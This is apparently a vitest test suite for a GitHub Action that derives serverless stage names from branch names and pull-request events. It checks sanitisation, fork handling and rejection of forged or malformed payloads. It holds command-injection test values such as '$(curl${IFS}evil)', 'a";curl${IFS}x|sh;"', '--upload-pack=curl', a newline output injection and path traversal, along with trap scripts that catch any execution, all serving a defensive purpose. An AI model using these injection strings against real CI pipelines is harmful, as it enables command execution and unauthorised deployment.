import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleOf } from '../sample.ts';
import { configurationWith } from '../world/example.ts';
import type { Files } from '../world/repository.ts';
import { startWorld, type World } from '../world/world.ts';
import { configurationOf, expectDecision, expectSkip, filled, openPull, resolveStage } from './resolve-stage-run.ts';
import { expectFailure, expectSuccess } from './verdict.ts';

const PATTERN: [string, string] = ['stages:\n', "stages:\n  'refs/**': { profile: dev }\n"];

let world: World;
let traps: string;
beforeAll(async () => {
  world = await startWorld({ files: { 'serverless-stages.yml': configurationWith(PATTERN) } });
  traps = mkdtempSync(join(tmpdir(), 'traps-'));
  for (const name of ['curl', 'sh', 'bash', 'id', 'echo']) {
    const file = join(traps, name);
    writeFileSync(file, `#!/bin/sh\n: > '${join(traps, 'sprung')}'\n`);
    chmodSync(file, 0o755);
  }
  const git = execFileSync('which', ['git'], { encoding: 'utf8' }).trim();
  writeFileSync(
    join(traps, 'git'),
    `#!/bin/sh\nprintf '%s\\n' "$@" >> '${join(traps, 'of-git')}'\nexec '${git}' "$@"\n`,
  );
  chmodSync(join(traps, 'git'), 0o755);
});
afterAll(async () => {
  rmSync(traps, { recursive: true, force: true });
  await world.close();
});

async function resolvePull(branch: string) {
  const number = await openPull(world, branch);
  const context = await world.pullRequestRun(number, 'opened');
  const env = { PATH: [traps, process.env['PATH']].join(delimiter) };
  return resolveStage(world, { ...context, env });
}

describe('a stage name', () => {
  it.each(
    sampleOf([
      ['A1', 'feature/ÄÖ', /^feature-ao-0pv[a-z0-9]{5}$/],
      ['A2', '--stage=prod', /^stage-prod-0pv[a-z0-9]{5}$/],
      ['A3', '$(curl${IFS}evil)', /^[a-z][a-z0-9]*(-[a-z0-9]+)*-0pv[a-z0-9]{5}$/],
      ['A3', '`id`', /^id-0pv[a-z0-9]{5}$/],
      ['A3', 'a";curl${IFS}x|sh;"', /^a-[a-z0-9-]+-0pv[a-z0-9]{5}$/],
      ['A4', `long/${'x'.repeat(200)}`, /^long-x{6}-0pv[a-z0-9]{5}$/],
      ['A5', '-----', /^b-0pv[a-z0-9]{5}$/],
      ['A5', '___', /^b-0pv[a-z0-9]{5}$/],
      ['A5', '🚀🚀', /^b-0pv[a-z0-9]{5}$/],
      ['A6', 'PROD', /^prod-0pv[a-z0-9]{5}$/],
      ['A6', 'Prod', /^prod-0pv[a-z0-9]{5}$/],
      ['A6', 'staging', /^staging-0pv[a-z0-9]{5}$/],
      ['A6', 'default', /^default-0pv[a-z0-9]{5}$/],
      ['A13', '123-fix', /^b-123-fix-0pv[a-z0-9]{5}$/],
      ['A2', ';;set-output_name=x', /^set-output/],
    ]),
  )('%s of the branch %s fits AWS, and is told to no program', async (_id, branch, name) => {
    const step = await resolvePull(branch);
    expectDecision(step, {
      decision: 'deploy',
      kind: 'preview',
      stage: expect.stringMatching(name),
      ref: `refs/heads/${branch}`,
      profile: 'dev',
      environment: 'preview',
    });
    expect(step.outputs['stage']).not.toContain('--');
    expect(step.outputs['stage']?.length).toBeLessThanOrEqual(20);
    expect(configurationOf(step).profile.role).toMatch(/:role\/serverless-stages-preview$/);
    expect(existsSync(join(traps, 'sprung'))).toBe(false);
    expect(readFileSync(join(traps, 'of-git'), 'utf8')).not.toContain(branch);
    expect(step.orphans).toEqual([]);
  });

  it('A8 differs for branches that differ in letters only', async () => {
    const names = [];
    for (const branch of ['mix/a', 'mix-a', 'Mix/A']) names.push((await resolvePull(branch)).outputs['stage']);
    expect(new Set(names).size).toBe(3);
  });

  it('A3 of a ref that a person typed is never run', async () => {
    const run = world.dispatchRun('refs/heads/master');
    for (const ref of ['$(curl evil)', '$(curl${IFS}evil)', '--upload-pack=curl', 'a\nstage=prod', '../../x']) {
      const env = { PATH: [traps, process.env['PATH']].join(delimiter) };
      const step = await resolveStage(world, { ...run, env }, { ref });
      expect(Object.keys(step.outputs)).not.toContain('a');
      expect(step.outputs['stage'] ?? '').not.toBe('prod');
      expect(existsSync(join(traps, 'sprung'))).toBe(false);
      if (step.exitCode === 0) expectSuccess(step);
      else {
        // A branch that is called so is there; this run is on another one.
        const refusals = ['E_INPUT', 'E_NOT_ON_BRANCH'] as const;
        const code = refusals.find((each) => step.annotations[0]?.message.startsWith(each));
        expectFailure(step, code ?? 'E_REF_REQUIRED');
      }
    }
  });
});

describe('the stage name of a preview with a function of a long name', () => {
  const SHORT = /^k-0pv[a-z0-9]{5}$/;
  const LONG = /^keep-my-nam-0pv[a-z0-9]{5}$/;
  // 64 characters of a function's name: 20 for the stage are too many, 10 are not.
  const withFunction = (name: string) => ({
    'backend-tasks/serverless.yml': `service: tasks\nprovider: { name: aws, runtime: nodejs24.x }\nfunctions: { ${name}: { handler: src/handler.handler } }\n`,
  });
  const BRANCH = 'keep/my-name-please';
  const withLong = withFunction('f'.repeat(45));
  let number: number;
  const resolveWith = async (files: Files, inputs = {}) => {
    const workspace = world.repository.checkout(world.repository.commit(BRANCH, files));
    number ??= (await world.github.pulls.open({ head: BRANCH, base: 'master' })).number;
    const step = await resolveStage(
      world,
      { ...(await world.pullRequestRun(number, 'synchronize')), workspace },
      inputs,
    );
    expectDecision(step, { decision: 'deploy' });
    return step.outputs['stage'] ?? '';
  };
  const deployed = (app: string, stage: string) =>
    world.github.deployments.create({
      sha: world.repository.head(`refs/heads/${BRANCH}`),
      task: `deploy:${app}/${stage}`,
      environment: 'preview',
    });

  it('is cut to its first letter and the hash, as long as it was never deployed', async () => {
    const stage = await resolveWith(withLong);
    expect(stage).toMatch(SHORT);
    deployed('another', stage);
    expect(await resolveWith(withFunction('digest'))).toMatch(LONG);
  });

  it('stays as it was deployed when the function goes', async () => {
    const stage = await resolveWith(withLong);
    deployed('workshop', stage);
    expect(await resolveWith(withFunction('digest'))).toBe(stage);
    expect(stage).toMatch(SHORT);
  });

  it('is told by the functions alone where the token may not read deployments', async () => {
    const token = world.github.issueToken({ permissions: { contents: 'read', pull_requests: 'read' } });
    const files = { ...withFunction('digest'), 'backend-tasks/again.txt': 'again' };
    expect(await resolveWith(files, { 'github-token': token })).toMatch(LONG);
  });
});

describe('a branch that is no preview', () => {
  it("A6 is a configured stage's", async () => {
    const { number } = await world.github.pulls.open({ head: 'prod', base: 'master' });
    expectSkip(await resolveStage(world, await world.pullRequestRun(number, 'opened')), /prod/);
  });
});

describe('a pull request of a fork', () => {
  it.each(['master', 'feature/good'])('A7 is not deployed: branch %s; no token is asked for', async (branch) => {
    if (branch !== 'master') world.repository.commit(branch, { 'a.txt': 'a' });
    const { number } = await world.github.pulls.open({ head: branch, base: 'master', headRepositoryId: 77 });
    for (const action of ['opened', 'synchronize', 'closed'] as const) {
      if (action === 'closed') await world.github.pulls.close(number);
      const run = world.withIdToken(await world.pullRequestRun(number, action), 'preview');
      expectSkip(await resolveStage(world, run), /fork/);
    }
    expect(world.oidc.journal).toEqual([]);
    expect(world.aws.journal.entries).toEqual([]);
  });

  it('A16 may be gone: head.repo is null', async () => {
    world.repository.commit('topic/orphan', { 'a.txt': 'a' });
    const { number } = await world.github.pulls.open({ head: 'topic/orphan', base: 'master', headRepositoryId: null });
    expectSkip(await resolveStage(world, await world.pullRequestRun(number, 'opened')), /fork/);
  });

  it('A7 is told from a pull request by the id of its repository, not by what the payload claims', async () => {
    world.repository.commit('topic/forged', { 'a.txt': 'a' });
    const { number } = await world.github.pulls.open({ head: 'topic/forged', base: 'master', headRepositoryId: 78 });
    const run = await world.pullRequestRun(number, 'opened');
    const payload = structuredClone(run.event?.payload) as { pull_request: { head: { repo: unknown } } };
    payload.pull_request.head.repo = { id: 1001, full_name: 'acme/workshop', fork: false };
    const step = await resolveStage(world, { ...run, event: { name: 'pull_request', payload } });
    expectSkip(step, /fork/);
  });
});

describe('a branch with a misleading name', () => {
  it.each(sampleOf(['refs/heads/x', 'refs/pull/5/merge', 'refs/tags/v1']))('A10 %s is a branch', async (branch) => {
    const sha = world.repository.commit(branch, { 'a.txt': branch });
    const pushed = await resolveStage(world, await world.pushRun(branch));
    expectDecision(pushed, { decision: 'deploy', kind: 'preview', ref: `refs/heads/${branch}`, commit: sha });
    const asked = await resolveStage(world, world.dispatchRun(`refs/heads/${branch}`), { ref: `refs/heads/${branch}` });
    expectDecision(asked, { stage: pushed.outputs['stage'], commit: sha });
    // The `delete` event names the branch without refs/heads/ (GitHub, "Webhook events and payloads").
    world.repository.git('update-ref', '-d', `refs/heads/${branch}`);
    const deleted = await resolveStage(world, world.deleteRun(branch));
    expectDecision(deleted, { decision: 'destroy', stage: pushed.outputs['stage'], ref: `refs/heads/${branch}` });
  });
});

describe('an event that cannot be read', () => {
  it.each(
    sampleOf([
      ['no text', ''],
      ['no JSON', '{"action": '],
      ['a list', '[]'],
      ['nothing of a pull request', '{"action": "opened"}'],
      ['a number that is none', '{"action": "opened", "number": "12; rm", "pull_request": {"number": "x"}}'],
    ]),
  )('A16 holds %s', async (_what, text) => {
    const event = { name: 'pull_request', payload: undefined, text };
    const step = await resolveStage(world, { event, ref: 'refs/pull/1/merge' });
    expectFailure(step, 'E_EVENT');
    expect(filled(step)).toEqual({ decision: 'error', error: expect.stringMatching(/^E_/) });
  });
});
